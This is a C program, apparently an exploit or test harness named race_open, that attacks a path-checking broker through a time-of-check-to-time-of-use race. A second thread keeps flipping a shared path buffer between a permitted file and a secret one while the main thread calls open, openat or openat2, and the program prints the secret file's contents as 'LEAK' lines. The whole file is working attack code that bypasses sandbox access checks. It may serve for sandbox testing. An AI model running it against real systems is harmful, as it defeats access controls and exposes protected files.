// race_open: pointer TOCTOU against the broker. The main thread opens the
// path in one shared buffer over and over; a second thread keeps rewriting
// that buffer between a granted path and a secret one. The two paths must
// have the same length; usually they differ in a single byte, so every flip
// is one atomic store and each open sees one of the two whole paths.
//
// Usage: race_open GRANTED SECRET ITERATIONS MAX_SECONDS [SYSCALL]
//   SYSCALL: openat (default), open, openat2
// Prints one summary line:
//   "granted=N secret=N denied=N other=N flips=N iterations=N"
// and, for every open whose content was the secret's, a line "LEAK <data>".
// The granted and secret files must hold different first lines.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static char path_buf[4096];
static char granted[4096], secret[4096];
static size_t path_len;
static atomic_int stop;
static atomic_long flips;

static void* flipper(void* unused) {
  (void)unused;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    // Only the differing bytes are written; volatile keeps every store.
    volatile char* p = path_buf;
    for (size_t i = 0; i < path_len; ++i)
      if (granted[i] != secret[i]) p[i] = secret[i];
    for (size_t i = 0; i < path_len; ++i)
      if (granted[i] != secret[i]) p[i] = granted[i];
    atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
  }
  return NULL;
}

static int read_first_line(const char* p, char* out, size_t size) {
  int fd = open(p, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t n = read(fd, out, size - 1);
  close(fd);
  if (n < 0) return -1;
  out[n] = 0;
  char* nl = strchr(out, '\n');
  if (nl) *nl = 0;
  return 0;
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc < 5) return 2;
  snprintf(granted, sizeof granted, "%s", argv[1]);
  snprintf(secret, sizeof secret, "%s", argv[2]);
  long iterations = atol(argv[3]);
  double max_seconds = atof(argv[4]);
  const char* which = argc > 5 ? argv[5] : "openat";
  path_len = strlen(granted);
  if (strlen(secret) != path_len) {
    fprintf(stderr, "race_open: paths must have the same length\n");
    return 2;
  }
  // The granted file's content identifies a good open; anything else that
  // opens and reads is checked against nothing: it is printed as a LEAK.
  char granted_line[256];
  if (read_first_line(granted, granted_line, sizeof granted_line) != 0) {
    printf("setup-failed cannot read granted file: %s\n", strerror(errno));
    return 1;
  }
  memcpy(path_buf, granted, path_len + 1);

  pthread_t t;
  if (pthread_create(&t, NULL, flipper, NULL) != 0) return 1;

  long n_granted = 0, n_secret = 0, n_denied = 0, n_other = 0, i;
  double deadline = now_s() + max_seconds;
  for (i = 0; i < iterations; ++i) {
    if ((i & 63) == 0 && now_s() > deadline) break;
    int fd;
    if (!strcmp(which, "open")) {
      fd = (int)syscall(SYS_open, path_buf, O_RDONLY);
    } else if (!strcmp(which, "openat2")) {
      struct open_how how;
      memset(&how, 0, sizeof how);
      how.flags = O_RDONLY;
      fd = (int)syscall(SYS_openat2, AT_FDCWD, path_buf, &how, sizeof how);
    } else {
      fd = (int)syscall(SYS_openat, AT_FDCWD, path_buf, O_RDONLY);
    }
    if (fd < 0) {
      if (errno == EACCES || errno == EPERM) ++n_denied;
      else ++n_other;
      continue;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) {
      ++n_other;
      continue;
    }
    buf[n] = 0;
    char* nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    if (!strcmp(buf, granted_line)) {
      ++n_granted;
    } else {
      ++n_secret;
      if (n_secret <= 5) printf("LEAK %s\n", buf);
    }
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("granted=%ld secret=%ld denied=%ld other=%ld flips=%ld iterations=%ld\n", n_granted, n_secret, n_denied,
         n_other, atomic_load(&flips), i);
  return 0;
}
